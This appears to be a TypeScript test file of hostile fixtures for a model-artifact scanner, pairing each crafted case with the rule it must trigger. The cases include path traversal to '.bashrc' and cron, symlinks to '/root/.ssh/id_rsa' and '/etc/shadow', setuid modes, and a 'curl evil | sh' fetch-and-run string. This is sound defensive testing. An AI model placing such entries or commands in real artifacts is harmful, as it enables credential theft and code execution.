/** Hostile variants of the fixtures, one or more per rule, with the rule each must trigger. */
import type { ArtifactFacts } from '../../../../analyzers/manifest/types.js';
import {
  CONFIG,
  MANIFEST,
  digestOf,
  file,
  image,
  kitops,
  layer,
  layerOf,
  modelPack,
  modelPackConfig,
  oras,
  withConfig,
  withEntries,
  withLayer,
  withManifest,
} from './fixtures.js';

export interface HostileCase {
  readonly name: string;
  readonly facts: () => ArtifactFacts;
  readonly rule: string;
  /** The finding's file, when the case pins it. */
  readonly file?: string;
  readonly severity?: string;
}

/** One hostile fixture per rule (and per way to trigger it), clean fixtures otherwise. */
export const HOSTILE_CASES: HostileCase[] = [
  {
    name: 'the config is not JSON',
    facts: () => withConfig(modelPack(), undefined),
    rule: 'manifest.config-not-json',
    file: CONFIG,
  },
  {
    name: 'the ModelPack config lacks modelfs',
    facts: () => withConfig(modelPack(), { ...modelPackConfig(), modelfs: undefined }),
    rule: 'manifest.modelpack-config-missing-field',
    file: CONFIG,
  },
  {
    name: 'a legacy vnd.cnai config lacks descriptor',
    facts: () => withManifest(withConfig(modelPack(), { ...modelPackConfig(), descriptor: undefined }), (m) => ({ config: { ...m.config, mediaType: 'application/vnd.cnai.model.config.v1+json' } })),
    rule: 'manifest.modelpack-config-missing-field',
  },
  {
    name: 'modelfs.type is not "layers"',
    facts: () => withConfig(modelPack(), { ...modelPackConfig(), modelfs: { type: 'rootfs', diffIds: (modelPackConfig()['modelfs'] as { diffIds: string[] }).diffIds } }),
    rule: 'manifest.modelpack-config-invalid',
  },
  {
    name: 'createdAt is not a date-time',
    facts: () => withConfig(modelPack(), { ...modelPackConfig(), descriptor: { createdAt: 'yesterday', name: 'x' } }),
    rule: 'manifest.modelpack-config-invalid',
  },
  {
    name: 'the ModelPack config has a field the schema does not define',
    facts: () => withConfig(modelPack(), { ...modelPackConfig(), extra: { run: 'curl evil | sh' } }),
    rule: 'manifest.modelpack-config-unknown-field',
    severity: 'Low',
  },
  {
    name: 'diffIds lists fewer digests than there are layers',
    facts: () => withConfig(modelPack(), { ...modelPackConfig(), modelfs: { type: 'layers', diffIds: [digestOf('weights')] } }),
    rule: 'manifest.diff-ids-count',
    file: CONFIG,
    severity: 'Medium',
  },
  {
    name: 'an image lists too few diff IDs for its compressed layers',
    facts: () => withConfig(image(), { rootfs: { type: 'layers', diff_ids: [] } }),
    rule: 'manifest.diff-ids-count',
    severity: 'High',
  },
  {
    name: "an uncompressed layer's diff ID is not its digest",
    facts: () => withConfig(modelPack(), { ...modelPackConfig(), modelfs: { type: 'layers', diffIds: [digestOf('other'), digestOf('tokenizer'), digestOf('readme')] } }),
    rule: 'manifest.diff-id-mismatch',
    file: 'model.safetensors',
  },
  {
    name: 'a compressed layer failed its diff ID while streaming',
    facts: () => ({ ...kitops(), layerErrors: [{ manifestDigest: MANIFEST, layerDigest: digestOf('kit-model'), cause: 'diff-id-mismatch', message: 'verifying diff ID: expected a, got b' }] }),
    rule: 'manifest.diff-id-mismatch',
    file: 'models/model.gguf',
  },
  {
    name: "a Kitfile diffId of an uncompressed layer is not the layer's digest",
    facts: () => withConfig(kitops(), { ...(kitops().manifests[0]!.config.json as object), docs: [{ path: 'README.md', digest: digestOf('kit-docs'), diffId: digestOf('forged') }] }),
    rule: 'manifest.diff-id-mismatch',
    file: 'README.md',
  },
  {
    name: 'the filepath annotation climbs out with ..',
    facts: () => withLayer(modelPack(), 2, (l) => ({ annotations: { ...l.annotations, 'org.cncf.model.filepath': '../../.bashrc' }, name: '.bashrc' })),
    rule: 'manifest.unsafe-filepath',
    file: '.bashrc',
  },
  {
    name: 'the legacy filepath annotation is absolute',
    facts: () => withLayer(modelPack(), 2, () => ({ annotations: { 'org.cnai.model.filepath': '/etc/cron.d/job' }, name: 'etc/cron.d/job' })),
    rule: 'manifest.unsafe-filepath',
  },
  {
    name: 'the ORAS title uses backslashes',
    facts: () => withLayer(oras(), 0, () => ({ annotations: { 'org.opencontainers.image.title': '..\\..\\evil.dll' } })),
    rule: 'manifest.unsafe-filepath',
  },
  {
    name: 'the filepath annotation holds a NUL byte',
    facts: () => withLayer(modelPack(), 2, () => ({ annotations: { 'org.cncf.model.filepath': 'README.md\0.py' } })),
    rule: 'manifest.unsafe-filepath',
  },
  {
    name: 'a Kitfile path is absolute',
    facts: () => withConfig(kitops(), { ...(kitops().manifests[0]!.config.json as object), code: [{ path: '/usr/lib/python3/sitecustomize.py', digest: digestOf('kit-code') }] }),
    rule: 'manifest.unsafe-filepath',
    file: 'src',
  },
  {
    name: 'the cncf and cnai filepath annotations disagree',
    facts: () => withLayer(modelPack(), 2, (l) => ({ annotations: { ...l.annotations, 'org.cnai.model.filepath': 'run.py' } })),
    rule: 'manifest.filepath-ambiguous',
    file: 'README.md',
  },
  {
    name: 'two layers claim the same path',
    facts: () => withLayer(modelPack(), 2, () => ({ annotations: { 'org.cncf.model.filepath': 'model.safetensors' }, name: 'model.safetensors' })),
    rule: 'manifest.path-collision',
    file: 'model.safetensors',
  },
  {
    name: 'a layer claims a directory where another claims a file',
    facts: () => withLayer(modelPack(), 2, () => ({ annotations: { 'org.cncf.model.filepath': 'model.safetensors/README.md' }, name: 'model.safetensors/README.md' })),
    rule: 'manifest.path-collision',
    file: 'model.safetensors',
  },
  {
    name: 'the walk met one path in two tar layers',
    facts: () => ({
      ...kitops(),
      collisions: [{ manifestDigest: MANIFEST, path: 'src/serve.py', kind: 'duplicate', first: { rawPath: 'src/serve.py', layerDigest: digestOf('kit-code') }, second: { rawPath: './src/serve.py', layerDigest: digestOf('kit-docs') } }],
    }),
    rule: 'manifest.path-collision',
    file: 'src/serve.py',
  },
  {
    name: 'one tar layer holds a path twice',
    facts: () => ({
      ...kitops(),
      collisions: [{ manifestDigest: MANIFEST, path: 'src/serve.py', kind: 'duplicate', first: { rawPath: 'src/serve.py', layerDigest: digestOf('kit-code') }, second: { rawPath: 'src/serve.py', layerDigest: digestOf('kit-code') } }],
    }),
    rule: 'archive.duplicate-member',
    file: 'src/serve.py',
  },
  {
    name: 'a ModelPack tar layer holds a file outside its annotated path',
    facts: () => withEntries(modelPack(), (e) => [...e, file(layerOf(modelPack(), 1), 'start.sh', { format: 'text' })]),
    rule: 'manifest.filepath-mismatch',
    file: 'tokenizer/tokenizer.json',
  },
  {
    name: 'a layer declared as tar is a bare file',
    facts: () => withLayer(modelPack(), 1, () => ({ readEncoding: 'raw' })),
    rule: 'manifest.layer-encoding-mismatch',
    severity: 'Medium',
  },
  {
    name: 'a layer declared gzip-compressed is a plain tar',
    facts: () => withLayer(kitops(), 0, () => ({ readEncoding: 'tar' })),
    rule: 'manifest.layer-encoding-mismatch',
    severity: 'Low',
  },
  {
    name: 'the config declares safetensors but a weight layer holds a pickle',
    facts: () => {
      const facts = modelPack();
      const bin = layer({ label: 'bin', mediaType: 'application/vnd.cncf.model.weight.v1.raw', declared: 'raw', name: 'pytorch_model.bin', annotations: { 'org.cncf.model.filepath': 'pytorch_model.bin' } });
      const config = modelPackConfig();
      (config['modelfs'] as { diffIds: string[] }).diffIds.push(bin.digest);
      return withConfig(
        withEntries(withManifest(facts, (m) => ({ layers: [...m.layers, bin] })), (e) => [...e, file(bin, 'pytorch_model.bin', { format: 'pickle' })]),
        config,
      );
    },
    rule: 'manifest.layer-content-mismatch',
    file: 'pytorch_model.bin',
  },
  {
    name: 'a documentation layer holds a pickle',
    facts: () => withEntries(modelPack(), (e) => e.map((entry) => (entry.path === 'README.md' ? { ...entry, format: 'pickle' } : entry))),
    rule: 'manifest.layer-content-mismatch',
    file: 'README.md',
  },
  {
    name: 'the file metadata annotation is not JSON',
    facts: () => withLayer(modelPack(), 0, (l) => ({ annotations: { ...l.annotations, 'org.cncf.model.file.metadata+json': '{"size":' } })),
    rule: 'manifest.file-metadata-invalid',
    severity: 'Low',
  },
  {
    name: 'the file metadata size disagrees with the raw blob',
    facts: () => withLayer(modelPack(), 0, () => ({ size: 5 })),
    rule: 'manifest.file-metadata-mismatch',
    file: 'model.safetensors',
  },
  {
    name: 'the file metadata of a tar layer declares another size and mode than its member',
    facts: () => withEntries(modelPack(), (e) => e.map((entry) => (entry.path === 'tokenizer/tokenizer.json' ? { ...entry, size: 99, mode: 0o755 } : entry))),
    rule: 'manifest.file-metadata-mismatch',
    file: 'tokenizer/tokenizer.json',
  },
  {
    name: 'the file metadata of a tar layer says symlink but the member is a file',
    facts: () =>
      withLayer(modelPack(), 1, (l) => ({
        annotations: { ...l.annotations, 'org.cncf.model.file.metadata+json': JSON.stringify({ name: 'tokenizer.json', mode: 420, size: 100, typeflag: 50 }) },
      })),
    rule: 'manifest.file-metadata-mismatch',
  },
  {
    name: 'the file metadata gives a raw layer a setuid mode',
    facts: () => withLayer(modelPack(), 0, (l) => ({ annotations: { ...l.annotations, 'org.cncf.model.file.metadata+json': JSON.stringify({ mode: 0o4755, size: 4_000_000, typeflag: 0 }) } })),
    rule: 'archive.setuid',
    file: 'model.safetensors',
  },
  {
    name: 'the registry served a blob of another size',
    facts: () => ({ ...kitops(), layerErrors: [{ manifestDigest: MANIFEST, layerDigest: digestOf('kit-code'), cause: 'size-mismatch', message: 'blob … does not have the size its descriptor declares' }] }),
    rule: 'manifest.blob-size-mismatch',
    file: 'src',
  },
  {
    name: 'the registry served a blob that does not match its digest',
    facts: () => ({ ...kitops(), layerErrors: [{ manifestDigest: MANIFEST, layerDigest: digestOf('kit-code'), cause: 'digest-mismatch', message: 'does not match its digest' }] }),
    rule: 'manifest.layer-digest-mismatch',
  },
  {
    name: 'a layer does not decompress',
    facts: () => ({ ...kitops(), layerErrors: [{ manifestDigest: MANIFEST, layerDigest: digestOf('kit-model'), cause: 'unreadable', message: 'gzip: invalid block type' }] }),
    rule: 'manifest.layer-unreadable',
  },
  {
    name: 'a layer tar is malformed',
    facts: () => ({ ...kitops(), layerErrors: [{ manifestDigest: MANIFEST, layerDigest: digestOf('kit-model'), cause: 'tar-malformed', message: 'tar: bad checksum at offset 512' }] }),
    rule: 'archive.tar-malformed',
  },
  {
    name: 'a compressed layer expands past the bomb ratio',
    facts: () => ({ ...kitops(), layerErrors: [{ manifestDigest: MANIFEST, layerDigest: digestOf('kit-model'), cause: 'decompression-bomb', message: 'decompression bomb: expands 1000 bytes to more than 229000' }] }),
    rule: 'archive.decompression-bomb',
  },
  {
    name: 'an index entry nested deeper than the resolver follows',
    facts: () => ({ ...kitops(), skippedManifests: [{ digest: digestOf('deep-index'), mediaType: 'application/vnd.oci.image.index.v1+json', reason: 'index nested deeper than 2 levels' }] }),
    rule: 'manifest.not-analysed',
    file: digestOf('deep-index'),
    severity: 'High',
  },
  {
    name: 'a layer expands past the limit',
    facts: () => ({ ...kitops(), layerErrors: [{ manifestDigest: MANIFEST, layerDigest: digestOf('kit-model'), cause: 'limit-exceeded', message: 'decompressed bytes limit exceeded' }] }),
    rule: 'engine.limit-exceeded',
  },
  {
    name: 'the ModelPack config holds more values than are validated',
    facts: () => withConfig(modelPack(), { ...modelPackConfig(), descriptor: { authors: Array.from({ length: 60_000 }, () => 'a') } }),
    rule: 'engine.limit-exceeded',
    file: CONFIG,
  },
  {
    name: 'a Kitfile entry names a layer the manifest lacks',
    facts: () => withConfig(kitops(), { ...(kitops().manifests[0]!.config.json as object), datasets: [{ path: 'data/train.csv', digest: digestOf('missing') }] }),
    rule: 'manifest.kitfile-layer-missing',
    file: CONFIG,
  },
  {
    name: 'a ModelKit layer belongs to no Kitfile entry',
    facts: () => withConfig(kitops(), { ...(kitops().manifests[0]!.config.json as object), docs: [] }),
    rule: 'manifest.kitfile-layer-unlisted',
    file: 'README.md',
  },
  {
    name: 'a model tar layer holds a whiteout',
    facts: () => withEntries(kitops(), (e) => [...e, file(layerOf(kitops(), 1), 'src/.wh.serve.py')]),
    rule: 'manifest.whiteout-entry',
    file: 'src/.wh.serve.py',
  },
  {
    name: 'a tar member name climbs out with ..',
    facts: () => withEntries(kitops(), (e) => [...e, file(layerOf(kitops(), 1), 'src/.bashrc', { rawPath: 'src/../../.bashrc' })]),
    rule: 'archive.path-traversal',
    file: 'src/.bashrc',
  },
  {
    name: 'an image layer member name is absolute',
    facts: () => withEntries(image(), (e) => [...e, file(layerOf(image(), 1), 'etc/passwd', { rawPath: '/etc/passwd' })]),
    rule: 'archive.path-traversal',
  },
  {
    name: 'a model symlink points outside the model directory',
    facts: () => withEntries(kitops(), (e) => [...e, { ...file(layerOf(kitops(), 1), 'src/creds'), type: 'symlink', linkname: '../../../root/.ssh/id_rsa', size: 0 }]),
    rule: 'archive.link-escape',
    file: 'src/creds',
  },
  {
    name: 'a model hardlink names an absolute path',
    facts: () => withEntries(kitops(), (e) => [...e, { ...file(layerOf(kitops(), 1), 'src/shadow'), type: 'hardlink', linkname: '/etc/shadow', size: 0 }]),
    rule: 'archive.link-escape',
  },
  {
    name: 'a model layer holds a device file',
    facts: () => withEntries(kitops(), (e) => [...e, { ...file(layerOf(kitops(), 1), 'src/sda'), type: 'block-device', size: 0 }]),
    rule: 'archive.device-file',
  },
  {
    name: 'a model file has the setuid bit',
    facts: () => withEntries(kitops(), (e) => [...e, file(layerOf(kitops(), 1), 'src/helper', { mode: 0o4755 })]),
    rule: 'archive.setuid',
    file: 'src/helper',
  },
];

